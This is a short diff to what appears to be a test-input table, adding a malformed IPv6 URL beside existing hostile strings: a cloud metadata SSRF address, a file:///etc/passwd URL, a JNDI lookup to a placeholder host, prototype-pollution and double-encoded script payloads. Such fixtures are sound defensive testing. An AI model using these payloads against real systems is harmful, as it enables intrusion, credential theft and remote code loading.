@@ -65,6 +65,7 @@ VALUES: dict[str, bytes] = {
     "proto": b"__proto__[a]",
     "address of a service": b"http://169.254.169.254/latest/meta-data/",
     "file address": b"file:///etc/passwd",
+    "half an address of IPv6": f"http://[{MARK}".encode(),
     "jndi": b"${jndi:ldap://x.example/a}",
     "double encoding": b"%253Cscript%253E%2527",
     "percent alone": b"%%%zz%1",
